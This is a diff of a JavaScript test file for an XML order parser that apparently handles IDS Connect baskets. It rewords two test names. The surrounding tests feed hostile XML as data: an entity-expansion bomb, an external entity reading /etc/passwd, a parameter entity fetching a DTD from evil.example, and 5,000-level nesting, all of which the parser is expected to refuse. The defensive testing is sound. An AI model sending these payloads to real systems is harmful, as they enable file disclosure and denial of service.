@@ -335,7 +335,7 @@ test('a basket of IDS Connect, whose alternatives are not ordered unseen', () =>
   ])
 })
 
-test('entities of a file, bombs of them and files of others are never followed', () => {
+test('entities of a file, XML bombs and references to other files are never followed', () => {
   const bomb = `<?xml version="1.0"?><!DOCTYPE Order [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><Order><ID>&b;</ID></Order>`
   const outside = `<!DOCTYPE Order [<!ENTITY x SYSTEM "file:///etc/passwd">]><Order><ID>&x;</ID></Order>`
   const parameter = `<!DOCTYPE Order [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><Order><ID>1</ID></Order>`
@@ -343,7 +343,7 @@ test('entities of a file, bombs of them and files of others are never followed',
     expect(refusalOf(text)).toMatch(/document type declaration with its own entities/)
 })
 
-test('XML without end in depth, of broken elements or of no order is refused in words', () => {
+test('XML that is too deep, broken or not an order is refused with an explanation', () => {
   expect(refusalOf(`<Order>${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</Order>`)).toMatch(
     /nested too deeply/,
   )
